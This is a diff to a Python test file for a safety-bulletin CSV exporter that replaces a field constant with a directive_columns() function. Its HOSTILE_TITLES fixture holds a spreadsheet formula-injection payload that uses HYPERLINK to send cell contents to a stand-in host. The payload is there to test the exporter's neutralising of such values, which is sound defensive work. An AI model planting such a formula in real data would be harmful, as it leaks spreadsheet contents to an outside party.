@@ -16,7 +16,7 @@ from hypothesis import given, settings, strategies as st
 
 from helpers import build
 
-from safety_bulletins.outputs.spreadsheet import DIRECTIVE_FIELDS, FORMULA_STARTS, csv_text, safe_cell
+from safety_bulletins.outputs.spreadsheet import FORMULA_STARTS, csv_text, directive_columns, safe_cell
 
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.test/?"&A1,"Details")',
@@ -104,7 +104,7 @@ def expected_cells(record: dict) -> list[str]:
     """A directives.json record as the CSV's cells must give it back (after `unquote`)."""
     flat = {**record, **{f"bulletin_{k}": v for k, v in record["bulletin"].items()}}
     cells = []
-    for name in DIRECTIVE_FIELDS[:-1]:  # the history apart: a line per follow-up, in words
+    for name in directive_columns()[:-1]:  # the history apart: a line per follow-up, in words
         value = flat.get(name)
         if isinstance(value, bool):
             cells.append("true" if value else "false")
@@ -119,7 +119,7 @@ def test_directives_csv_holds_every_value_of_directives_json(hostile_site):
     data = (hostile_site / "directives.csv").read_bytes()
     assert b"\r\n" in data and data.count(b"\r\n") == len(read_csv(data))  # CRLF after every row
     rows = read_csv(data)
-    assert rows[0] == list(DIRECTIVE_FIELDS)
+    assert rows[0] == list(directive_columns())
     records = json.loads((hostile_site / "directives.json").read_text(encoding="utf-8"))["directives"]
     assert [r[0] for r in rows[1:]] == [r["id"] for r in records]
     for row, record in zip(rows[1:], records):
